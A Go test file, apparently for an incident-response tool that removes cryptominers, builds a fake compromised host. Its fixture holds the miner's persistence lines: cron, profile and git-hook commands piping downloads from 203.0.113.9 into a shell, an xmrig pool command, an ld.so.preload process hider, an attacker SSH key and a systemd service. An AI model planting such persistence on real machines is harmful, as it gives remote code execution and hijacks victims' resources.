package source

import (
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/sensortest"
)

const (
	goodKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGo0Z29vZGtleWdvb2RrZXlnb29ka2V5Z29vZGtleTEy admin@desk"
	evilKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEV2aWxrZXlldmlsa2V5ZXZpbGtleWV2aWxrZXlldmls root@localhost"
)

// victim is a tree as a host that was broken into has it. Each file's lines that begin with EVIL| are the miner's.
var victim = map[string]string{
	"/etc/passwd":                                "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
	"/etc/shadow":                                "root:$6$x$y:19000:0:99999:7:::\nbob:$6$x$y:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n",
	"/etc/group":                                 "root:x:0:\nsudo:x:27:bob\nbob:x:1000:\n",
	"/etc/crontab":                               "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\nEVIL|*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n# end\n",
	"/etc/cron.d/e2scrub":                        "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x/e2scrub\n",
	"/etc/cron.d/apache":                         "EVIL|* * * * * root /var/tmp/.sys/kworker\n",
	"/var/spool/cron/crontabs/bob":               "# m h dom\n0 5 * * * tar zcf /backup /home\nEVIL|@reboot /dev/shm/.x/xmrig -o pool.example:3333 -u 4\n",
	"/etc/cron.daily/logrotate":                  "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
	"/etc/cron.hourly/sync":                      "#!/bin/sh\ncd /tmp\n/var/tmp/.sys/kworker &\n",
	"/etc/ld.so.preload":                         "EVIL|/usr/local/lib/libprocesshider.so\n/usr/lib/libharmless.so\n",
	"/etc/profile.d/lang.sh":                     "export LANG=C\n",
	"/root/.bashrc":                              "alias ll='ls -l'\nif [ -x /var/tmp/.sys/kworker ]; then\nEVIL:|    /var/tmp/.sys/kworker \\\nEVIL|      --background\nfi\nexport API_TOKEN=hunter2\n",
	"/home/bob/.profile":                         "umask 022\nEVIL|(curl -s http://203.0.113.9/a||wget -qO- http://203.0.113.9/a)|bash",
	"/home/bob/.bashrc":                          "# nothing\n",
	"/root/.ssh/authorized_keys":                 goodKey + "\nEVIL|" + evilKey + "\n",
	"/etc/systemd/system/ssh-agent.service":      "[Service]\nExecStart=/usr/bin/ssh-agent -D\n",
	"/etc/systemd/system/syshealth.service":      "[Unit]\nDescription=health\n[Service]\nExecStart=/var/tmp/.sys/kworker\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
	"/etc/systemd/system/syshealth.timer":        "[Timer]\nOnBootSec=1\n",
	"/etc/systemd/system/nginx.service.d/o.conf": "[Service]\nNice=1\nEVIL|ExecStartPost=/var/tmp/.sys/kworker\n",
	"/srv/git/o/r.git/hooks/post-receive":        "#!/bin/sh\ncurl http://203.0.113.9/a|sh\n",
	"/home/bob/.gitconfig":                       "[user]\n\tname = bob\n[uploadpack]\nEVIL|\tpackObjectsHook = /tmp/.gt_sys_health\n",
	"/etc/rc.local":                              "#!/bin/sh -e\nEVIL|/var/tmp/.sys/kworker &\nexit 0\n",
}

var scripts = []string{"/etc/cron.daily/logrotate", "/etc/cron.hourly/sync", "/srv/git/o/r.git/hooks/post-receive", "/etc/rc.local"}

// clean returns the content without the miner's lines.
func clean(text string) string {
	var out strings.Builder
	for _, l := range strings.SplitAfter(text, "\n") {
		switch {
		case strings.HasPrefix(l, "EVIL|"):
		case strings.HasPrefix(l, "EVIL:|"):
			out.WriteString("    :\n")
		default:
			out.WriteString(l)
		}
	}
	return out.String()
}

func dirty(text string) string {
	return strings.ReplaceAll(strings.ReplaceAll(text, "EVIL:|", ""), "EVIL|", "")
}

// makeTree writes the host with owners, modes, old times and an attribute.
func makeTree(t *testing.T) string {
	t.Helper()
	sensortest.Root(t)
	dir := t.TempDir()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	at := time.Unix(1_700_000_000, 123_456_789)
	for _, path := range slices.Sorted(maps.Keys(victim)) {
		full := dir + path
		must(os.MkdirAll(filepath.Dir(full), 0o755))
		must(os.WriteFile(full, []byte(dirty(victim[path])), 0o600))
		mode := fs.FileMode(0o640)
		if slices.Contains(scripts, path) {
			mode = 0o755
		}
		must(os.Chmod(full, mode))
		must(os.Chown(full, 1000, 33))
		if err := unix.Setxattr(full, "user.origin", []byte("kept"), 0); err != nil {
			t.Logf("no attributes here: %v", err)
		}
		must(os.Chtimes(full, at, at.Add(time.Hour)))
	}
	for _, l := range [][2]string{
		{"/etc/systemd/system/multi-user.target.wants/syshealth.service", "/etc/systemd/system/syshealth.service"},
		{"/etc/systemd/system/timers.target.wants/syshealth.timer", "../syshealth.timer"},
		{"/etc/systemd/system/multi-user.target.wants/ssh-agent.service", "/etc/systemd/system/ssh-agent.service"},
		{"/etc/systemd/system/dbus-health.service", "syshealth.service"},
	} {
		must(os.MkdirAll(filepath.Dir(dir+l[0]), 0o755))
		must(os.Symlink(l[1], dir+l[0]))
		must(os.Lchown(dir+l[0], 7, 8))
		ts := []unix.Timespec{unix.NsecToTimespec(at.UnixNano()), unix.NsecToTimespec(at.UnixNano())}
		must(unix.UtimesNanoAt(unix.AT_FDCWD, dir+l[0], ts, unix.AT_SYMLINK_NOFOLLOW))
	}
	must(filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.IsDir() {
			err = os.Chtimes(path, at, at)
		}
		return err
	}))
	return dir
}

// snapshot is all that a tree is: content, type, mode, owner, attributes and time of change of everything in it.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		var st unix.Stat_t
		if err := unix.Lstat(path, &st); err != nil {
			return err
		}
		text := ""
		switch {
		case d.Type() == fs.ModeSymlink:
			if text, err = os.Readlink(path); err != nil {
				return err
			}
		case d.Type().IsRegular():
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			buf := make([]byte, 4096)
			n, err := unix.Lgetxattr(path, "user.origin", buf)
			if err == nil {
				text = "attribute " + string(buf[:n]) + "\n"
			}
			text += string(b)
		}
		out[strings.TrimPrefix(path, dir)] = fmt.Sprintf("%o %d:%d %d.%09d %d\n%s", st.Mode, st.Uid, st.Gid, st.Mtim.Sec, st.Mtim.Nsec, st.Nlink, text)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// newSource returns a responder on a tree whose services are switched off, unless section says otherwise.
func newSource(t *testing.T, root, data string, set func(*Config)) *Responder {
	t.Helper()
	r, err := New(minewarden.Env{Data: data, Decode: func(v any) error {
		c := v.(*Config)
		c.Root, c.Docker.URL, c.Nomad.URL, c.Consul.URL, c.Gitea.URL = root, "", "", "", ""
		if set != nil {
			set(c)
		}
		return nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	return r.(*Responder)
}
